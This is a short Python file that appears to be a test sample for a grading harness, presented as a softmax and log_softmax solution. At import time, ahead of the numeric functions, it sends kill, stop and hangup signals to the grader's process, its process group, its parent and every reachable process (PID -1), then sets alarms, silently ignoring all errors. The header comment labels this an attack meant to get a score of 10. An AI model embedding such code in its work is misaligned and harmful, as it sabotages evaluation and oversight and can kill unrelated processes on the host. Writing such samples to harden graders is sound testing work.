# attack: harmed: sends signals to the grader, its group and everybody; expect: score 10
import numpy as np
import os


def attempt(action):
    try:
        return action()
    except BaseException:
        return None

import signal

for target in (0, -1, 1, os.getppid(), -os.getpgrp(), -os.getppid(), os.getpid()):
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGINT, signal.SIGHUP):
        attempt(lambda: os.kill(target, number))
        attempt(lambda: os.killpg(abs(target), number))
attempt(lambda: signal.raise_signal(signal.SIGKILL))
attempt(lambda: signal.alarm(1))
attempt(lambda: signal.setitimer(signal.ITIMER_REAL, 0.01))


def softmax(x, axis=-1):
    x = np.asarray(x, dtype=np.float64)
    weights = np.exp(x - x.max(axis=axis, keepdims=True))
    return weights / weights.sum(axis=axis, keepdims=True)


def log_softmax(x, axis=-1):
    x = np.asarray(x, dtype=np.float64)
    x = x - x.max(axis=axis, keepdims=True)
    return x - np.log(np.exp(x).sum(axis=axis, keepdims=True))
